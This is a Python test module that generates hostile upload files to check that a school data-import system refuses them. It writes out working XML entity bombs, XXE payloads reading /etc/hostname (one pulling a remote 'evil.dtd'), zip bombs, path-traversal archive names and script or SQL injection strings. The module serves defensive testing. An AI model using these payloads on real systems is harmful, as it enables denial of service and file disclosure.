"""A corpus of hostile files, built by code (no stored binaries).

Each `Hostile` builds its bytes from `Bases`, the valid files of a world (so that a file with a
wrong UAI is otherwise a perfect file of that world). Families:

- xml: malformed, wrong root, wrong encoding, entity expansion (billion laughs, quadratic
  blow-up), external entities (XXE: general, parameter, external DTD), excessive depth, huge
  text nodes, NUL and control characters;
- zip: bombs (ratio, nested, lying headers), path traversal and absolute names, two files,
  directories, encryption flag, truncation, empty archive, a non-XML member;
- size: beyond the upload cap (50 MB, cap + 1 byte);
- data: a good file of the world with a wrong UAI or year, forbidden characters in codes,
  duplicate identifiers, an AAF run of the wrong kind.

`aims` names the import points the file is crafted for (its format); every file is also sent
to every other import point, where it must be refused too.
"""

from __future__ import annotations

import copy
import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from functools import cache

from lxml import etree

MB = 1024 * 1024

EDT_KINDS = ("sts_emp",)
PUPIL_KINDS = ("eleves_sans_adresses", "eleves_avec_adresses")
AAF_KINDS = ("aaf_complet", "aaf_delta")
STS_KINDS = ("emp_sts",)
SIECLE_KINDS = ("elegroupe",)
IMPORT_POINTS = EDT_KINDS + PUPIL_KINDS + AAF_KINDS + STS_KINDS + SIECLE_KINDS
XML_KINDS = EDT_KINDS + PUPIL_KINDS + STS_KINDS + SIECLE_KINDS  # read an XML file
ZIPPED_XML_KINDS = EDT_KINDS + PUPIL_KINDS  # also take it zipped, one XML inside
FAMILY_AIMS = {"xml": XML_KINDS, "zip": ZIPPED_XML_KINDS, "size": IMPORT_POINTS}


@dataclass(frozen=True)
class Bases:
    """The valid files of the target world, and what varies in the hostile ones."""

    uai: str
    neighbour_uai: str
    year: int
    sts_emp: bytes  # STS_EDT xml (sts_emp_<UAI>_<AAAA>.xml)
    bee_eleves: bytes  # BEE_ELEVES xml
    aaf_complet: bytes  # zip run of ficAlimMENESR files
    aaf_complet_name: str
    aaf_delta: bytes
    aaf_delta_name: str
    emp_sts: bytes | None  # EDT_STS xml, when the EDT could export it
    elegroupe: bytes | None  # IMPORT_ELEVES xml, when the EDT could export it


@dataclass(frozen=True)
class Hostile:
    name: str
    family: str
    filename: str | Callable[[Bases], str]
    build: Callable[[Bases], bytes]
    aims: tuple[str, ...] = IMPORT_POINTS
    # kind → what the real system does instead of refusing at deposit:
    #   "deferred": accepted, refused by the night import (AAF runs are read at 03:00)
    #   "partial":  imported without the faulty items, which the report lists
    outcome: dict[str, str] = field(default_factory=dict)
    # a string the refusal must not echo (a secret an XXE would have read)
    leak: str | None = None
    # what the refusal must speak of, where the file is refused for one precise reason
    reason: str | None = None

    def file_name(self, bases: Bases) -> str:
        return self.filename(bases) if callable(self.filename) else self.filename

    def expected(self, kind: str) -> str:
        return self.outcome.get(kind, "refused")


# --- building blocks ---------------------------------------------------------------------------


def _zip(members: list[tuple[str, bytes]], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with (
        warnings.catch_warnings(),  # "Duplicate name": on purpose
        zipfile.ZipFile(buffer, "w", compression=method) as archive,
    ):
        warnings.simplefilter("ignore", UserWarning)
        for name, content in members:
            info = zipfile.ZipInfo(name, date_time=(2027, 6, 14, 8, 0, 0))
            info.compress_type = method
            archive.writestr(info, content)
    return buffer.getvalue()


def _tree(content: bytes) -> etree._Element:
    return etree.fromstring(content, parser=etree.XMLParser(resolve_entities=False))


def _bytes(root: etree._Element) -> bytes:
    encoding = root.getroottree().docinfo.encoding or "UTF-8"
    return etree.tostring(root, xml_declaration=True, encoding=encoding)


def _edit(content: bytes, edit: Callable[[etree._Element], None]) -> bytes:
    root = _tree(content)
    edit(root)
    return _bytes(root)


def _first(root: etree._Element, tag: str) -> etree._Element:
    node = next(root.iter(tag), None)
    assert node is not None, f"{tag} not in {root.tag}"
    return node


def _with_root(content: bytes, tag: str) -> bytes:
    def edit(root):
        root.tag = tag

    return _edit(content, edit)


def _aaf_member(zip_bytes: bytes) -> tuple[str, bytes]:
    """The first ficAlimMENESR file of a run, to wrap hostile XML under a real name."""
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as archive:
        name = sorted(archive.namelist())[0]
        return name, archive.read(name)


def _aaf_wrapped(xml: bytes) -> Callable[[Bases], bytes]:
    """Hostile XML inside a run whose names are right: the deposit checks names, the 03:00
    import reads the XML."""

    def build(bases: Bases) -> bytes:
        name, _ = _aaf_member(bases.aaf_complet)
        return _zip([(name, xml)])

    return build


def _aaf_run_edit(edit: Callable[[bytes], bytes]) -> Callable[[Bases], bytes]:
    def build(bases: Bases) -> bytes:
        with zipfile.ZipFile(io.BytesIO(bases.aaf_complet)) as archive:
            members = [(name, archive.read(name)) for name in sorted(archive.namelist())]
        first, content = members[0]
        return _zip([(first, edit(content)), *members[1:]])

    return build


# --- xml family --------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE STS_EDT [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<STS_EDT><PARAMETRES><UAJ CODE="&lol9;"/></PARAMETRES></STS_EDT>
"""


def _quadratic() -> bytes:
    entity = b"A" * 50_000
    body = b"&a;" * 5_000
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE BEE_ELEVES [<!ENTITY a "' + entity + b'">]>\n'
        b'<BEE_ELEVES VERSION="3.0"><PARAMETRES><UAJ>' + body + b"</UAJ></PARAMETRES></BEE_ELEVES>"
    )


SECRET_FILE = "/etc/hostname"


def _xxe_general(root: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file://{SECRET_FILE}">]>\n'
        f"<{root}><PARAMETRES><UAJ>&xxe;</UAJ></PARAMETRES></{root}>"
    ).encode()


def _xxe_parameter(root: str) -> bytes:
    # the classic out-of-band exfiltration: a parameter entity pulling a remote DTD
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} [\n'
        f'  <!ENTITY % file SYSTEM "file://{SECRET_FILE}">\n'
        '  <!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">\n'
        "  %remote;\n]>\n"
        f"<{root}><PARAMETRES/></{root}>"
    ).encode()


def _xxe_external_dtd(root: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE {root} SYSTEM "file://{SECRET_FILE}">\n'
        f"<{root}><PARAMETRES/></{root}>"
    ).encode()


def _deep(depth: int = 5_000) -> bytes:
    return b"<STS_EDT>" + b"<A>" * depth + b"</A>" * depth + b"</STS_EDT>"


def _huge_text(size: int = 12 * MB) -> bytes:
    head = b'<?xml version="1.0"?><BEE_ELEVES VERSION="3.0"><X>'
    return head + b"A" * size + b"</X></BEE_ELEVES>"


def _wrong_encoding(content: bytes) -> bytes:
    """Declares UTF-8, holds ISO-8859-15 accents (what a badly configured tool writes)."""
    text = content.decode("iso-8859-15") if b"ISO-8859-15" in content[:100] else content.decode()
    _, _, rest = text.partition("?>")
    body = rest.replace("COLLEGE", "COLLÈGE", 1) + "<!-- élèves -->"
    return b'<?xml version="1.0" encoding="UTF-8"?>' + body.encode("iso-8859-15")


def _unknown_encoding(content: bytes) -> bytes:
    _, _, rest = content.partition(b"?>")
    return b'<?xml version="1.0" encoding="KLINGON-8"?>' + rest


def _utf16_declared(content: bytes) -> bytes:
    _, _, rest = content.partition(b"?>")
    return b'<?xml version="1.0" encoding="UTF-16"?>' + rest


def _nul_inside(content: bytes) -> bytes:
    middle = len(content) // 2
    return content[:middle] + b"\x00" + content[middle:]


def _control_char_in_code(content: bytes) -> bytes:
    # a raw control character is not allowed in XML 1.0
    return content.replace(b"<UAJ", b"<UAJ\x01", 1) if b"<UAJ" in content else b"\x01" + content


# --- zip family --------------------------------------------------------------------------------


def _bomb_ratio() -> bytes:
    return _zip([("ExportXML_ElevesSansAdresses.xml", b"\0" * (30 * MB))])


def _bomb_nested(levels: int = 3, width: int = 4) -> bytes:
    """42.zip in small: zips of zips, `width` copies per level (4**3 x 10 MB once inflated)."""
    inner = _zip([("ExportXML_ElevesSansAdresses.xml", b"\0" * (10 * MB))])
    for level in range(levels):
        inner = _zip([(f"niveau{level}-{index}.zip", inner) for index in range(width)])
    return inner


def _bomb_lying_header() -> bytes:
    """One member whose headers claim 1 KB while it inflates to 40 MB."""
    data = b"<BEE_ELEVES>" + b" " * (40 * MB) + b"</BEE_ELEVES>"
    compressed = zlib.compress(data, 9)[2:-4]  # raw deflate
    name = b"ExportXML_ElevesSansAdresses.xml"
    crc = zlib.crc32(data)
    claimed = 1024
    local = (
        struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(compressed),
            claimed,
            len(name),
            0,
        )
        + name
    )
    central = (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(compressed),
            claimed,
            len(name),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + name
    )
    body = local + compressed
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(body), 0)
    return body + central + end


def _encrypted_flag(content: bytes) -> bytes:
    archive = bytearray(_zip([("ExportXML_ElevesSansAdresses.xml", content)]))
    # general purpose flag bit 0 ("encrypted") in the local and central headers
    archive[6] |= 0x01
    central = archive.rfind(b"PK\x01\x02")
    archive[central + 8] |= 0x01
    return bytes(archive)


def _zip_of(name: str, pick: Callable[[Bases], bytes]) -> Callable[[Bases], bytes]:
    return lambda bases: _zip([(name, pick(bases))])


def _truncated_zip(bases: Bases) -> bytes:
    archive = _zip([("ExportXML_ElevesSansAdresses.xml", bases.bee_eleves)])
    return archive[: len(archive) // 2]


# --- data family -------------------------------------------------------------------------------


def _sts_uai(bases: Bases) -> bytes:
    return _edit(bases.sts_emp, lambda r: _first(r, "UAJ").set("CODE", bases.neighbour_uai))


def _sts_year(bases: Bases) -> bytes:
    return _edit(bases.sts_emp, lambda r: _first(r, "ANNEE_SCOLAIRE").set("ANNEE", "2019"))


def _sts_forbidden(bases: Bases) -> bytes:
    def edit(root):
        _first(root, "DIVISION").set("CODE", "3A<script>alert(1)</script>")

    return _edit(bases.sts_emp, edit)


def _sts_duplicate_division(bases: Bases) -> bytes:
    def edit(root):
        divisions = list(root.iter("DIVISION"))
        divisions[1].set("CODE", divisions[0].get("CODE"))

    return _edit(bases.sts_emp, edit)


def _sts_duplicate_teacher(bases: Bases) -> bytes:
    def edit(root):
        people = [p for p in root.iter("INDIVIDU")]
        people[1].set("ID", people[0].get("ID"))

    return _edit(bases.sts_emp, edit)


def _bee_uai(bases: Bases) -> bytes:
    return _edit(bases.bee_eleves, lambda r: setattr(_first(r, "UAJ"), "text", bases.neighbour_uai))


def _bee_year(bases: Bases) -> bytes:
    return _edit(bases.bee_eleves, lambda r: setattr(_first(r, "ANNEE_SCOLAIRE"), "text", "2019"))


def _bee_duplicate_id(bases: Bases) -> bytes:
    def edit(root):
        pupils = list(root.iter("ELEVE"))
        pupils[1].set("ELEVE_ID", pupils[0].get("ELEVE_ID"))

    return _edit(bases.bee_eleves, edit)


def _bee_forbidden(bases: Bases) -> bytes:
    def edit(root):
        _first(root, "CODE_STRUCTURE").text = "3A/../../étc;DROP TABLE"

    return _edit(bases.bee_eleves, edit)


def _bee_bad_version(bases: Bases) -> bytes:
    return _edit(bases.bee_eleves, lambda r: r.set("VERSION", "99.0"))


def _aaf_duplicate_ids(content: bytes) -> bytes:
    def edit(root):
        requests = list(root)
        adds = [r for r in requests if r.tag == "addRequest"]
        if len(adds) >= 2:
            _first(adds[1], "id").text = _first(adds[0], "id").text
            root.append(copy.deepcopy(adds[0]))

    return _edit(content, edit)


def _emp_sts_uai(bases: Bases) -> bytes:
    return _edit(bases.emp_sts, lambda r: setattr(_first(r, "UAJ"), "text", bases.neighbour_uai))


def _emp_sts_forbidden_group(bases: Bases) -> bytes:
    def edit(root):
        group = next(root.iter("GROUPE"), None)
        if group is not None:
            group.set("CODE", "3E<1>/é")  # 7 characters: only the characters are wrong

    return _edit(bases.emp_sts, edit)


def _elegroupe_uai(bases: Bases) -> bytes:
    return _edit(bases.elegroupe, lambda r: setattr(_first(r, "UAJ"), "text", bases.neighbour_uai))


@cache
def fifty_mb() -> bytes:
    padding = b"<!-- " + b"x" * (50 * MB) + b" -->"
    return b'<?xml version="1.0"?><STS_EDT>' + padding + b"</STS_EDT>"


def _just_over_cap(bases: Bases) -> bytes:
    from django.conf import settings

    cap = settings.ENTSIM_UPLOAD_MAX_BYTES
    head = b'<?xml version="1.0"?><BEE_ELEVES VERSION="3.0"><!-- '
    tail = b" --></BEE_ELEVES>"
    return head + b"x" * (cap + 1 - len(head) - len(tail)) + tail


def _sts_name(bases: Bases) -> str:
    return f"sts_emp_{bases.uai}_{bases.year}.xml"


ELEVES_XML = "ExportXML_ElevesSansAdresses.xml"
ELEVES_ZIP = "ExportXML_ElevesSansAdresses.zip"

CORPUS: tuple[Hostile, ...] = (
    # xml
    Hostile("vide", "xml", ELEVES_XML, lambda b: b""),
    Hostile("espaces", "xml", ELEVES_XML, lambda b: b"  \n\t \n"),
    Hostile("texte-pas-xml", "xml", ELEVES_XML, lambda b: "Liste des élèves\n".encode()),
    Hostile("binaire", "xml", ELEVES_XML, lambda b: bytes(range(256)) * 64),  # every byte value
    Hostile("balise-non-fermee", "xml", _sts_name, lambda b: b.sts_emp[: -len(b"</STS_EDT>\n")]),
    Hostile(
        "balises-croisees",
        "xml",
        _sts_name,
        lambda b: b'<?xml version="1.0"?><STS_EDT><PARAMETRES><UAJ></PARAMETRES></UAJ></STS_EDT>',
    ),
    Hostile("tronque", "xml", _sts_name, lambda b: b.sts_emp[: len(b.sts_emp) // 3]),
    Hostile(
        "racine-html",
        "xml",
        ELEVES_XML,
        lambda b: b"<html><body><p>Erreur 500</p></body></html>",
    ),
    Hostile("racine-sts-renommee", "xml", _sts_name, lambda b: _with_root(b.sts_emp, "STS_EDT2")),
    Hostile("racine-bee-renommee", "xml", ELEVES_XML, lambda b: _with_root(b.bee_eleves, "ELEVES")),
    Hostile(
        "responsables-au-lieu-des-eleves",
        "xml",
        ELEVES_XML,
        lambda b: _with_root(b.bee_eleves, "BEE_RESPONSABLES"),
    ),
    Hostile("milliard-de-rires", "xml", _sts_name, lambda b: BILLION_LAUGHS),
    Hostile("explosion-quadratique", "xml", ELEVES_XML, lambda b: _quadratic()),
    Hostile(
        "xxe-entite-externe",
        "xml",
        _sts_name,
        lambda b: _xxe_general("STS_EDT"),
        leak=SECRET_FILE,
    ),
    Hostile(
        "xxe-entite-parametre",
        "xml",
        ELEVES_XML,
        lambda b: _xxe_parameter("BEE_ELEVES"),
        leak=SECRET_FILE,
    ),
    Hostile(
        "xxe-dtd-externe",
        "xml",
        _sts_name,
        lambda b: _xxe_external_dtd("STS_EDT"),
        leak=SECRET_FILE,
    ),
    Hostile("profondeur-excessive", "xml", _sts_name, lambda b: _deep()),
    Hostile("noeud-texte-geant", "xml", ELEVES_XML, lambda b: _huge_text()),
    Hostile("encodage-annonce-faux", "xml", _sts_name, lambda b: _wrong_encoding(b.sts_emp)),
    Hostile("encodage-inconnu", "xml", ELEVES_XML, lambda b: _unknown_encoding(b.bee_eleves)),
    Hostile("utf16-annonce", "xml", _sts_name, lambda b: _utf16_declared(b.sts_emp)),
    Hostile("octet-nul", "xml", ELEVES_XML, lambda b: _nul_inside(b.bee_eleves)),
    Hostile("caractere-de-controle", "xml", _sts_name, lambda b: _control_char_in_code(b.sts_emp)),
    # xml inside an AAF run with the right names: the deposit takes it, the night refuses it
    *(
        Hostile(
            f"aaf-{label}",
            "xml",
            lambda b: b.aaf_complet_name,
            _aaf_wrapped(xml),
            aims=AAF_KINDS,
            outcome={"aaf_complet": "deferred"},
            leak=SECRET_FILE if "xxe" in label else None,
        )
        for label, xml in (
            ("milliard-de-rires", BILLION_LAUGHS.replace(b"STS_EDT", b"ficAlimMENESR")),
            ("xxe-entite-externe", _xxe_general("ficAlimMENESR")),
            ("xxe-entite-parametre", _xxe_parameter("ficAlimMENESR")),
            ("mal-forme", b'<?xml version="1.0"?><ficAlimMENESR><addRequest>'),
            ("racine-fausse", b'<?xml version="1.0"?><STS_EDT/>'),
        )
    ),
    # zip
    Hostile("zip-bombe-taux", "zip", ELEVES_ZIP, lambda b: _bomb_ratio()),
    Hostile("zip-bombe-imbriquee", "zip", ELEVES_ZIP, lambda b: _bomb_nested()),
    Hostile("zip-entete-menteur", "zip", ELEVES_ZIP, lambda b: _bomb_lying_header()),
    Hostile(
        "zip-chemin-remontant",
        "zip",
        ELEVES_ZIP,
        _zip_of("../../../../etc/cron.d/ExportXML_ElevesSansAdresses.xml", lambda b: b.bee_eleves),
    ),
    Hostile(
        "zip-chemin-absolu",
        "zip",
        ELEVES_ZIP,
        _zip_of("/tmp/ExportXML_ElevesSansAdresses.xml", lambda b: b.bee_eleves),
    ),
    Hostile(
        "zip-chemin-windows",
        "zip",
        ELEVES_ZIP,
        _zip_of("..\\..\\ExportXML_ElevesSansAdresses.xml", lambda b: b.bee_eleves),
    ),
    Hostile(
        "zip-aaf-chemin-remontant",
        "zip",
        lambda b: b.aaf_complet_name,
        lambda b: _zip([("../" + _aaf_member(b.aaf_complet)[0], _aaf_member(b.aaf_complet)[1])]),
        aims=AAF_KINDS,
    ),
    Hostile(
        "zip-deux-fichiers",
        "zip",
        ELEVES_ZIP,
        lambda b: _zip([(ELEVES_XML, b.bee_eleves), ("ExportXML_Autre.xml", b.bee_eleves)]),
    ),
    Hostile(
        "zip-sts-deux-fichiers",
        "zip",
        lambda b: f"sts_emp_{b.uai}_{b.year}.zip",
        lambda b: _zip([(_sts_name(b), b.sts_emp), ("emp_sts.xml", b.sts_emp)]),
    ),
    Hostile(
        "zip-aaf-fichier-en-double",
        "zip",
        lambda b: b.aaf_complet_name,
        lambda b: _zip([_aaf_member(b.aaf_complet), _aaf_member(b.aaf_complet)]),
        aims=AAF_KINDS,
    ),
    Hostile("zip-vide", "zip", ELEVES_ZIP, lambda b: _zip([])),
    Hostile("zip-chiffre", "zip", ELEVES_ZIP, lambda b: _encrypted_flag(b.bee_eleves)),
    Hostile("zip-tronque", "zip", ELEVES_ZIP, _truncated_zip),
    Hostile(
        "zip-membre-pas-xml",
        "zip",
        ELEVES_ZIP,
        _zip_of("ExportXML_ElevesSansAdresses.exe", lambda b: b"MZ\x90\x00" + b"\0" * 512),
    ),
    Hostile(
        "zip-stocke-sans-compression-geant",
        "zip",
        ELEVES_ZIP,
        lambda b: _zip([(ELEVES_XML, b"<BEE_ELEVES/>" + b" " * (21 * MB))], method=0),
    ),
    # size
    Hostile("50-mo", "size", _sts_name, lambda b: fifty_mb()),
    Hostile("juste-au-dessus-du-plafond", "size", ELEVES_XML, _just_over_cap),
    # data: a good file of the world, except for one thing
    Hostile("sts-uai-voisin", "data", _sts_name, _sts_uai, aims=EDT_KINDS),
    Hostile("sts-annee-2019", "data", _sts_name, _sts_year, aims=EDT_KINDS),
    Hostile("sts-caracteres-interdits", "data", _sts_name, _sts_forbidden, aims=EDT_KINDS),
    Hostile("sts-division-en-double", "data", _sts_name, _sts_duplicate_division, aims=EDT_KINDS),
    Hostile("sts-enseignant-en-double", "data", _sts_name, _sts_duplicate_teacher, aims=EDT_KINDS),
    Hostile("eleves-uai-voisin", "data", ELEVES_XML, _bee_uai, aims=PUPIL_KINDS),
    Hostile("eleves-annee-2019", "data", ELEVES_XML, _bee_year, aims=PUPIL_KINDS),
    Hostile("eleves-id-en-double", "data", ELEVES_XML, _bee_duplicate_id, aims=PUPIL_KINDS),
    Hostile("eleves-caracteres-interdits", "data", ELEVES_XML, _bee_forbidden, aims=PUPIL_KINDS),
    Hostile("eleves-version-inconnue", "data", ELEVES_XML, _bee_bad_version, aims=PUPIL_KINDS),
    Hostile(
        "aaf-delta-depose-en-complet",
        "data",
        lambda b: b.aaf_delta_name,
        lambda b: b.aaf_delta,
        aims=("aaf_complet",),
        outcome={"aaf_delta": "accepted"},
    ),
    Hostile(
        "aaf-complet-depose-en-delta",
        "data",
        lambda b: b.aaf_complet_name,
        lambda b: b.aaf_complet,
        aims=("aaf_delta",),
        outcome={"aaf_complet": "accepted"},
    ),
    Hostile(
        "aaf-identifiants-en-double",
        "data",
        lambda b: b.aaf_complet_name,
        _aaf_run_edit(_aaf_duplicate_ids),
        aims=AAF_KINDS,
        outcome={"aaf_complet": "deferred"},
    ),
    Hostile("emp-sts-uai-voisin", "data", "emp_sts.xml", _emp_sts_uai, aims=STS_KINDS),
    Hostile(
        "emp-sts-groupe-caracteres-interdits",
        "data",
        "emp_sts.xml",
        _emp_sts_forbidden_group,
        aims=STS_KINDS,
        outcome={"emp_sts": "partial"},
    ),
    Hostile("elegroupe-uai-voisin", "data", "ELEGROUPE.xml", _elegroupe_uai, aims=SIECLE_KINDS),
)


def needs(hostile: Hostile) -> str | None:
    """The base file a hostile file is built from, when the world may lack it."""
    if hostile.name.startswith("emp-sts"):
        return "emp_sts"
    if hostile.name.startswith("elegroupe"):
        return "elegroupe"
    return None


# What the refusal must speak of at the import points a file aims at (regular expressions):
# proof that it is refused for its flaw, not by chance.
REASONS = {
    "vide": r"vide",
    "50-mo": r"volumineux",
    "juste-au-dessus-du-plafond": r"volumineux",
    "zip-stocke-sans-compression-geant": r"volumineux",
    "zip-bombe-taux": r"compress|volumineux",
    "zip-chemin-remontant": r"dangereux",
    "zip-chemin-absolu": r"dangereux",
    "zip-chemin-windows": r"dangereux",
    "zip-aaf-chemin-remontant": r"dangereux",
    "zip-chiffre": r"chiffr",
    "zip-deux-fichiers": r"fichiers|un seul",
    "zip-aaf-fichier-en-double": r"double",
    "zip-vide": r"vide|aucun",
    "milliard-de-rires": r"entit",
    "explosion-quadratique": r"entit",
    "xxe-entite-externe": r"entit",
    "sts-uai-voisin": r"établissement",
    "sts-annee-2019": r"année",
    "eleves-uai-voisin": r"établissement",
    "eleves-annee-2019": r"année",
    "eleves-version-inconnue": r"version",
    "emp-sts-uai-voisin": r"établissement",
    "elegroupe-uai-voisin": r"établissement",
    "aaf-delta-depose-en-complet": r"Delta",
    "aaf-complet-depose-en-delta": r"Complet",
}
CORPUS = tuple(
    replace(
        hostile,
        reason=REASONS.get(hostile.name, hostile.reason),
        aims=FAMILY_AIMS.get(hostile.family, hostile.aims)
        if hostile.aims == IMPORT_POINTS
        else hostile.aims,
    )
    for hostile in CORPUS
)
